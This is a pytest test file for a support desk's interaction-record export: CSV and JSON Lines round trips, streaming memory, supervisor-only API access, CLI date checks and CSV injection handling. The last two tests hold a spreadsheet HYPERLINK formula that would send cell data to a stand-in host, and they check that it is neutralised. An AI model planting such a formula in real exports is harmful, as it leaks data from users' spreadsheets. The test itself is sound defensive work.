"""Export of interaction records: CSV and JSON Lines round trips, streaming, API and CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tracemalloc
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert

from bot.messages import Channel
from bot.store.db import create_engine, create_session_factory
from bot.store.models import Contact, Conversation, Role, utcnow
from handoff.export import FIELDS, ExportFormat, csv_value, encode, records
from tests.handoff.conftest import Desk
from tests.handoff.report_data import Known, seed_known


@pytest.fixture
async def known(database_url: str) -> AsyncIterator[tuple[Known, Any]]:
    engine = create_engine(database_url)
    sessions = create_session_factory(engine)
    yield await seed_known(sessions), sessions
    await engine.dispose()


async def _all(sessions: Any, **kwargs: Any) -> list[dict[str, Any]]:
    return [r async for r in records(sessions, **kwargs)]


async def _text(export_format: ExportFormat, sessions: Any, **kwargs: Any) -> str:
    return "".join([p async for p in encode(export_format, records(sessions, **kwargs))])


async def test_a_record_holds_the_interaction(known: tuple[Known, Any]) -> None:
    ids, sessions = known[0].conversations, known[1]
    by_id = {r["conversation_id"]: r for r in await _all(sessions)}
    assert sorted(by_id) == sorted(ids.values())
    c2 = by_id[ids["C2"]]
    assert {k: c2[k] for k in FIELDS if k not in ("created_at", "last_message_at")} == {
        "conversation_id": ids["C2"],
        "channel": "sms",
        "language": "es",
        "customer_name": "Customer C2",
        "customer_address": "address-C2",
        "customer_phone": None,
        "state": "resolved",
        "nature_of_inquiry": "customer_request",  # the wrap-up's, over the assistant's guess
        "handoffs": 1,
        "handoff_reason": "customer_request",
        "priority": "normal",
        "tier": None,
        "handoff_requested_at": "2026-03-01T10:00:00+00:00",
        "due_at": "2026-03-02T10:00:00+00:00",
        "first_response_at": "2026-03-01T10:30:00+00:00",
        "first_response_seconds": 1800,
        "resolved_at": "2026-03-01T10:35:00+00:00",
        "rep": "ann",
        "actions_taken": "helped with customer_request",
        "follow_up_required": True,
        "follow_up_due": "2026-03-04",
        "follow_up_owner": "ann",
        "follow_up_done_at": None,
        "rating": 5,
        "kind": "conversation",
        "interaction_id": None,
        "direction": None,
        "customer_email": None,
        "follow_up_note": None,
    }
    c1 = by_id[ids["C1"]]
    assert (c1["handoffs"], c1["rep"], c1["rating"], c1["nature_of_inquiry"]) == (
        0,
        None,
        None,
        "order_status",
    )


async def test_csv_and_jsonl_parse_back_to_the_same_records(known: tuple[Known, Any]) -> None:
    sessions = known[1]
    expected = await _all(sessions)
    lines = (await _text(ExportFormat.JSONL, sessions)).splitlines()
    assert [json.loads(line) for line in lines] == expected
    rows = list(csv.DictReader(io.StringIO(await _text(ExportFormat.CSV, sessions), newline="")))
    assert rows == [{k: csv_value(r[k]) for k in FIELDS} for r in expected]


async def test_the_range_selects_by_last_activity(known: tuple[Known, Any]) -> None:
    ids, sessions = known[0].conversations, known[1]
    since = datetime.fromisoformat("2026-03-02T00:00:00+00:00")
    until = datetime.fromisoformat("2026-03-03T00:00:00+00:00")
    got = [r["conversation_id"] for r in await _all(sessions, since=since, until=until)]
    assert got == sorted([ids["C1"], ids["C3"]])


async def test_pages_are_read_one_at_a_time(known: tuple[Known, Any]) -> None:
    sessions = known[1]
    whole = await _all(sessions)
    assert await _all(sessions, page_size=2) == whole  # keyset pages join up exactly


async def _seed_plain(sessions: Any, first: int, count: int) -> None:
    now = utcnow()
    async with sessions() as session, session.begin():
        contact_ids = list(
            await session.scalars(
                insert(Contact).returning(Contact.id),
                [{"display_name": f"C{n}", "created_at": now} for n in range(first, first + count)],
            )
        )
        await session.execute(
            insert(Conversation),
            [
                {
                    "contact_id": contact_id,
                    "channel": Channel.WEBCHAT,
                    "address": f"addr-{first + n}",
                    "created_at": now,
                    "updated_at": now,
                    "last_message_at": now,
                }
                for n, contact_id in enumerate(contact_ids)
            ],
        )


async def _peak(sessions: Any) -> tuple[int, int]:
    """(peak bytes allocated while exporting, bytes of CSV produced)."""
    tracemalloc.start()
    size = 0
    async for piece in encode(ExportFormat.CSV, records(sessions, page_size=500)):
        size += len(piece)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    return peak, size


async def test_streaming_keeps_memory_flat(sqlite_url: str) -> None:
    engine = create_engine(sqlite_url)
    sessions = create_session_factory(engine)
    try:
        await _seed_plain(sessions, 0, 2000)
        await _peak(sessions)  # warm up: statement caches are filled once
        small_peak, small_size = await _peak(sessions)
        await _seed_plain(sessions, 2000, 6000)
        large_peak, large_size = await _peak(sessions)
    finally:
        await engine.dispose()
    assert large_size > 3.9 * small_size
    # Four times the records, about the same memory: pages, not the whole export, are held.
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)


async def test_the_api_streams_for_supervisors(desk: Desk) -> None:
    await seed_known(desk.services.session_factory)
    assert (await desk.http.get("/api/export", headers=await desk.auth("ann"))).status_code == 403
    sue = await desk.auth("sue")
    response = await desk.http.get(
        "/api/export", params={"format": "jsonl", "start": "2026-03-01"}, headers=sue
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert "attachment" in response.headers["content-disposition"]
    assert len(response.text.splitlines()) == 5  # C6 was last active in February
    csv_response = await desk.http.get("/api/export", headers=sue)
    assert csv_response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(csv_response.text)))
    assert len(rows) == 6 and list(rows[0]) == list(FIELDS)
    bad = await desk.http.get("/api/export", params={"format": "xml"}, headers=sue)
    assert bad.status_code == 422
    await desk.rep("adam", Role.ADMIN)
    admin = await desk.http.get("/api/export", headers=await desk.auth("adam"))
    assert admin.status_code == 200


async def test_the_cli_writes_the_file(known: tuple[Known, Any], tmp_path: Path) -> None:
    url = str(known[1].kw["bind"].url.render_as_string(hide_password=False))
    out = tmp_path / "records.jsonl"
    result = subprocess.run(  # noqa: ASYNC221 (the test waits for the CLI on purpose)
        [sys.executable, "-m", "gateway.cli", "export", "--format", "jsonl", "--out", str(out)],
        env={**os.environ, "DATABASE_URL": url, "LOG_LEVEL": "WARNING"},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "Exported 6 conversations" in result.stderr
    assert [json.loads(line) for line in out.read_text().splitlines()] == await _all(known[1])


@pytest.mark.parametrize(
    ("dates", "problem"),
    [
        (["--end", "9999-12-31"], "The end date must be between 2000-01-01 and 2100-12-31"),
        (["--start", "1900-01-01"], "The start date must be between"),
        (["--start", "2025-06-30", "--end", "2025-01-01"], "The start date is after the end"),
        (["--start", "2024-01-01", "--end", "2025-06-30"], "at most 366 days"),
    ],
)
def test_the_cli_refuses_the_dates_the_api_refuses(
    sqlite_url: str, tmp_path: Path, dates: list[str], problem: str
) -> None:
    out = tmp_path / "records.csv"
    result = subprocess.run(
        [sys.executable, "-m", "gateway.cli", "export", "--out", str(out), *dates],
        env={**os.environ, "DATABASE_URL": sqlite_url, "LOG_LEVEL": "WARNING"},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 2, result.stderr
    assert problem in result.stderr and "Traceback" not in result.stderr
    assert not out.exists()  # refused before anything was written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://x.example/?d="&A2,"open")',
            '\'=HYPERLINK("http://x.example/?d="&A2,"open")',
        ),
        ("+1 246 555 0123", "'+1 246 555 0123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ann Smith", "Ann Smith"),
        (-3, "-3"),  # a number is a number
        (None, ""),
        (True, "true"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(value: Any, written: str) -> None:
    assert csv_value(value) == written


async def test_a_customer_named_like_a_formula_is_exported_inert(desk: Desk) -> None:
    formula = '=HYPERLINK("http://x.example/?d="&A2,"open")'
    await desk.queued("123456", channel=Channel.TELEGRAM, display_name=formula)
    await desk.rep("sue", Role.SUPERVISOR)
    sue = await desk.auth("sue")
    exported = await desk.http.get("/api/export", params={"format": "csv"}, headers=sue)
    [row] = list(csv.DictReader(io.StringIO(exported.text)))
    assert row["customer_name"] == "'" + formula
    # JSON Lines is data, not a spreadsheet: unchanged.
    lines = await desk.http.get("/api/export", params={"format": "jsonl"}, headers=sue)
    assert json.loads(lines.text)["customer_name"] == formula
